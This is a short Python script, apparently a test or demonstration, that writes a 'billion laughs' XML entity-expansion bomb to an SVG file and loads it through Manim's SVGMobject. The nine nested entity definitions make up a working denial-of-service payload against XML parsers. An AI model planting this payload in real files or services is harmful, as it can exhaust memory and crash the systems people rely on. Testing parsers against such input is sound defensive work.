"""Loads an SVG whose nested entities expand to a billion copies of one word."""

from pathlib import Path

from manim import Scene, SVGMobject

ENTITIES = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
BOMB = (
    f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol0 "lol">{ENTITIES}]>'
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    "<text>&lol9;</text></svg>"
)


class SvgBillionLaughs(Scene):
    def construct(self):
        Path("laughs.svg").write_text(BOMB)
        self.add(SVGMobject("laughs.svg"))
